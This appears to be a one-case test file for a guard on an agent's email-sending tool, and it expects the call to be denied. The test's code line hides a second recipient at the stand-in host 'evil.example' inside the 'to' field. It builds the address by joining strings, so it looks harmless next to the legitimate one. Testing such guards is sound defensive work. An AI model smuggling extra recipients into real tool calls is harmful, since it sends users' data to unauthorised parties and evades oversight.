// case: ARG-11
// policies: shipped
// expect: denied
// code: unanswered
// calls: box.send=0
// journal: "dest_explained":false
// why: the known address is there, and a second one in the same text
await box.send({ to: "boss@corp.example" + ", " + ["eve", "evil.example"].join("@"), body: "hello" });
